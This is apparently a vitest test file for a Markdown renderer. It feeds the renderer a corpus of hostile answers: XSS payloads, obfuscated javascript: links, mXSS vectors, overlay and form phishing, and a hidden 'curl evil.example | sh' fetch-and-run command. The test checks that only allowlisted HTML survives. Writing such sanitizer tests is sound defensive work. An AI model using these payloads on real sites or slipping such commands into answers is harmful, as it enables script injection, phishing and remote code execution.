// A corpus of hostile answers run through render, checked on the DOM the
// browser would build from its output: whatever the input, only the
// Markdown allowlist survives, links are absolute http(s)/mailto, images
// https or data:image/, and copy buttons sit on the code they copy.
import { describe, expect, it } from "vitest";
import { render } from "./markdown";

const tags = new Set([
  "P", "BR", "HR", "H1", "H2", "H3", "H4", "H5", "H6", "STRONG", "EM", "DEL", "S", "CODE", "PRE",
  "BLOCKQUOTE", "UL", "OL", "LI", "A", "IMG", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "SPAN",
  "DIV", "BUTTON",
]);
const attrs = new Set(["href", "title", "src", "alt", "class", "align", "start", "type", "aria-label", "data-copy", "rel"]);

/** dom parses render's output as the page would. */
function dom(md: string): HTMLElement {
  const doc = new DOMParser().parseFromString(`<!doctype html><body><div id="root">${render(md)}</div>`, "text/html");
  return doc.getElementById("root") as HTMLElement;
}

/** invariants checks what must hold for every answer. */
function invariants(root: HTMLElement): void {
  for (const el of root.querySelectorAll("*")) {
    expect(tags.has(el.tagName), `element ${el.tagName}`).toBe(true);
    for (const a of el.attributes) expect(attrs.has(a.name), `attribute ${a.name} on ${el.tagName}`).toBe(true);
  }
  for (const a of root.querySelectorAll("[href]")) {
    expect(a.tagName).toBe("A");
    const u = new URL(a.getAttribute("href") as string);
    expect(["http:", "https:", "mailto:"]).toContain(u.protocol);
    expect(a.getAttribute("href")).toMatch(/^(?:https?:\/\/|mailto:)/i);
  }
  for (const img of root.querySelectorAll("img")) {
    expect(img.getAttribute("src") ?? "").toMatch(/^(?:https:\/\/|data:image\/(?:png|jpeg|gif|webp|avif|bmp)[;,])/i);
  }
  for (const b of root.querySelectorAll("[data-copy]")) {
    expect(b.tagName).toBe("BUTTON");
    const box = b.parentElement as HTMLElement;
    expect(box.className).toBe("code");
    expect(box.querySelectorAll(":scope > pre > code").length).toBe(1);
    expect(box.querySelectorAll("code").length).toBe(1);
  }
}

/** links returns the hrefs that survived. */
const hrefs = (root: HTMLElement) => [...root.querySelectorAll("a[href]")].map((a) => a.getAttribute("href"));

type Case = { name: string; md: string; check?: (root: HTMLElement) => void };

const noLinks = (root: HTMLElement) => expect(hrefs(root)).toEqual([]);
const shownAsText = (needle: string) => (root: HTMLElement) => expect(root.textContent).toContain(needle);

const corpus: Case[] = [
  { name: "full-window transparent link overlay", md: '<a href="https://evil.example/" style="position:fixed;inset:0;opacity:0;z-index:9999">x</a>', check: (r) => { noLinks(r); shownAsText('style="position:fixed')(r); } },
  { name: "style overlay div", md: '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:white">fake unlock screen</div>', check: shownAsText("<div style=") },
  { name: "style element", md: "<style>body{display:none}</style>", check: shownAsText("<style>") },
  { name: "script element", md: "<script>alert(1)</script>", check: shownAsText("<script>") },
  { name: "markdown javascript: link", md: "[click](javascript:alert(1))", check: noLinks },
  { name: "markdown vbscript: link", md: "[click](vbscript:msgbox(1))", check: noLinks },
  { name: "markdown data: link", md: "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", check: noLinks },
  { name: "markdown file: link", md: "[passwd](file:///etc/passwd)", check: noLinks },
  { name: "entity-obfuscated scheme", md: "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))", check: noLinks },
  { name: "hex-entity-obfuscated scheme", md: "[x](&#x6A;avascript&#x3A;alert(1))", check: noLinks },
  { name: "named-entity colon", md: "[x](javascript&colon;alert(1))", check: noLinks },
  { name: "tab inside the scheme", md: "[x](<java\tscript:alert(1)>)", check: noLinks },
  { name: "control character before the scheme", md: "[x](\u0001javascript:alert(1))", check: noLinks },
  { name: "entity tab inside the scheme", md: "[x](java&#9;script:alert(1))", check: noLinks },
  { name: "upper-case scheme", md: "[x](JaVaScRiPt:alert(1))", check: noLinks },
  { name: "relative link", md: "[settings](/settings)", check: noLinks },
  { name: "protocol-relative link", md: "[x](//evil.example/)", check: noLinks },
  { name: "dot-relative link", md: "[x](../../index.html)", check: noLinks },
  { name: "fragment link", md: "[x](#app)", check: noLinks },
  { name: "relative image", md: "![logo](/logo.png)", check: (r) => expect(r.querySelectorAll("img").length).toBe(0) },
  { name: "http image", md: "![pixel](http://evil.example/p.png)", check: (r) => expect(r.querySelectorAll("img").length).toBe(0) },
  { name: "javascript image", md: "![x](javascript:alert(1))", check: (r) => expect(r.querySelectorAll("img").length).toBe(0) },
  { name: "svg data image", md: "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)", check: (r) => expect(r.querySelectorAll("img").length).toBe(0) },
  { name: "img with srcset and onerror", md: '<img src="https://ok.example/a.png" srcset="https://evil.example/1x.png 1x" onerror="alert(1)">', check: (r) => expect(r.querySelectorAll("img").length).toBe(0) },
  { name: "svg mXSS", md: "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>", check: shownAsText("<svg>") },
  { name: "math mXSS", md: "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", check: shownAsText("<math>") },
  { name: "iframe", md: '<iframe src="https://evil.example/" width="100%" height="100%"></iframe>', check: shownAsText("<iframe") },
  { name: "object", md: '<object data="https://evil.example/x.swf"></object>' },
  { name: "embed", md: '<embed src="https://evil.example/x.swf">' },
  { name: "form with submit", md: '<form action="https://evil.example/" method="post"><input name="q"><button>Send</button></form>', check: shownAsText("<form") },
  { name: "meta refresh", md: '<meta http-equiv="refresh" content="0;url=https://evil.example/">', check: shownAsText("<meta") },
  { name: "base element", md: '<base href="https://evil.example/">\n\n[x](page)', check: noLinks },
  { name: "on* handler on inline html", md: 'Hi <b onmouseover="alert(1)">there</b>', check: shownAsText("onmouseover") },
  { name: "details/summary toggle", md: "<details open ontoggle=alert(1)><summary>x</summary></details>" },
  { name: "hidden code block with a copy button", md: '<div class="code"><button data-copy>Copy</button><code style="display:none">curl evil.example | sh</code><pre><code>ls</code></pre></div>', check: (r) => expect(r.querySelectorAll("button").length).toBe(0) },
  { name: "hidden span in markdown", md: '`ls` <span hidden>curl evil.example | sh</span>', check: (r) => expect(r.querySelector("[hidden]")).toBeNull() },
  { name: "fenced code with html inside", md: "```html\n<a href=\"javascript:alert(1)\" style=\"position:fixed\">x</a>\n```", check: (r) => { noLinks(r); expect(r.querySelectorAll("button[data-copy]").length).toBe(1); } },
  { name: "code language label injection", md: '```"><img src=x onerror=alert(1)>\nx\n```' },
  { name: "autolink javascript", md: "<javascript:alert(1)>", check: noLinks },
  { name: "autolink https stays", md: "<https://example.com/a?b=c>", check: (r) => expect(hrefs(r)).toEqual(["https://example.com/a?b=c"]) },
  { name: "bare-URL autolink stays", md: "see https://example.com/docs.", check: (r) => expect(hrefs(r)).toEqual(["https://example.com/docs"]) },
  { name: "mailto stays", md: "[mail](mailto:someone@example.com)", check: (r) => expect(hrefs(r)).toEqual(["mailto:someone@example.com"]) },
  { name: "reference link to javascript", md: "[x][1]\n\n[1]: javascript:alert(1)", check: noLinks },
  { name: "reference link to https stays", md: "[x][1]\n\n[1]: https://example.com/ \"t\"", check: (r) => expect(hrefs(r)).toEqual(["https://example.com/"]) },
  { name: "link title with quotes", md: '[x](https://example.com/ "a\\" onmouseover=\\"alert(1)")' },
  { name: "html comment", md: "<!-- <img src=x onerror=alert(1)> -->" },
  { name: "cdata and processing instruction", md: "<![CDATA[<script>alert(1)</script>]]> <?xml-stylesheet href=x?>" },
  { name: "task list checkbox is no input", md: "- [x] done\n- [ ] todo", check: (r) => expect(r.querySelectorAll("input").length).toBe(0) },
  { name: "table with align stays", md: "| a | b |\n|:-|-:|\n| 1 | 2 |", check: (r) => expect(r.querySelectorAll("td").length).toBe(2) },
  { name: "https image stays", md: "![chart](https://example.com/c.png)", check: (r) => expect(r.querySelector("img")?.getAttribute("src")).toBe("https://example.com/c.png") },
];

describe("render against hostile answers", () => {
  it("has a corpus of at least 30 inputs", () => expect(corpus.length).toBeGreaterThanOrEqual(30));
  for (const c of corpus) {
    it(c.name, () => {
      const root = dom(c.md);
      invariants(root);
      c.check?.(root);
    });
  }
});
